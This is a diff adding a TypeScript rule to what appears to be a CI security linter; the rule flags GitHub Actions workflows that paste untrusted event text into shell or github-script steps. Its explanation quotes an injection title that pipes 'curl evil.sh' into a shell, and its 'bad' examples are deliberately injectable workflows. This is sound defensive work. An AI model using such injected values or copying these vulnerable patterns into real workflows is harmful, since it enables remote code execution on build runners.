@@ -1,0 +1,89 @@
+import type { Expression, Pipeline, PipelineStep } from '../../../model/pipeline.ts';
+import { declaredAt } from '../../../model/place.ts';
+import { held, violated } from '../../outcome.ts';
+import { bad, defineRule } from '../../rule.ts';
+import { foreignTriggers, isGuarded, privilegedTriggers } from './foreign-triggers.ts';
+
+/** Texts of an event that its author writes freely (GitHub Security Lab: untrusted input). */
+const FOREIGN =
+  /\bgithub\.(?:head_ref\b|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\b.*\.page_name|commits\b.*\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|head_repository\.description)))|^(?:toJSON\()?github\.event\)?$/i;
+
+const workflow = <const T extends string>(event: string, run: T) =>
+  `on: ${event}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ${run}\n` as const;
+
+export const pastesForeignText = defineRule({
+  id: 'build/safe-triggers/pastes-foreign-text',
+  subject: 'pipeline',
+  severity: 'high',
+  title: 'Text that strangers write is pasted into a script',
+  why: 'The expression is replaced before the shell reads the line, so a title like `"; curl evil.sh | sh #` is a command.',
+  remedy: 'Hand the text over in a variable: `env: {TITLE: ${{ … }}}` on the step and `"$TITLE"` in the script.',
+  references: [
+    {
+      title: 'GitHub Security Lab: untrusted input',
+      url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/',
+    },
+    { title: 'CWE-94: code injection', url: 'https://cwe.mitre.org/data/definitions/94.html' },
+  ],
+  examples: {
+    bad: [
+      bad({ '.github/workflows/greet.yml': workflow('issues', 'echo "«${{ github.event.issue.title }}»"') }),
+      bad({ '.github/workflows/greet.yml': workflow('pull_request', "echo '«${{ github.head_ref }}»'") }),
+      bad({
+        '.github/workflows/greet.yml':
+          'on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: |\n            const text = `«${{ github.event.comment.body }}»`\n',
+      }),
+    ],
+    good: [
+      {
+        '.github/workflows/greet.yml':
+          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
+      },
+      { '.github/workflows/greet.yml': workflow('pull_request', 'echo ${{ github.event.pull_request.number }}') },
+    ],
+    silent: [{ '.github/workflows/greet.yml': workflow('workflow_dispatch', 'echo hello') }],
+  },
+  *check(pipeline) {
+    const [foreign] = foreignTriggers(pipeline);
+    const privileged = privilegedTriggers(pipeline).length > 0;
+    let found = false;
+    for (const { job, step, expression } of pastes(pipeline)) {
+      found = true;
+      const origin = declaredAt(expression.place);
+      const milder = !privileged || isGuarded(job, step);
+      yield violated(
+        origin,
+        `\${{ ${expression.text} }} is written by whoever raises the event and becomes part of a script`,
+        milder ? { severity: 'medium' } : {},
+      );
+    }
+    if (!found && foreign) yield held(declaredAt(foreign.place));
+  },
+});
+
+type Paste = {
+  readonly job: Pipeline['jobs'][number];
+  readonly step: PipelineStep;
+  readonly expression: Expression;
+};
+
+function* pastes(pipeline: Pipeline): Generator<Paste> {
+  for (const job of pipeline.jobs) {
+    for (const step of job.steps) {
+      for (const expression of scriptExpressions(step)) {
+        if (FOREIGN.test(expression.text) && !isHarmless(expression.text)) yield { job, step, expression };
+      }
+    }
+  }
+}
+
+/** A comparison gives true or false, and a search an answer of that kind, whatever the text. */
+const isHarmless = (expression: string): boolean =>
+  /^(?:contains|startsWith|endsWith|hashFiles)\(/i.test(expression) ||
+  (/[=!]=/.test(expression) && !/&&|\|\|/.test(expression));
+
+const scriptExpressions = (step: PipelineStep): readonly Expression[] => {
+  const script =
+    step.uses?.name === 'actions/github-script' ? step.with.find(({ name }) => name === 'script') : undefined;
+  return [...(step.run?.expressions ?? []), ...(script?.value.expressions ?? [])];
+};
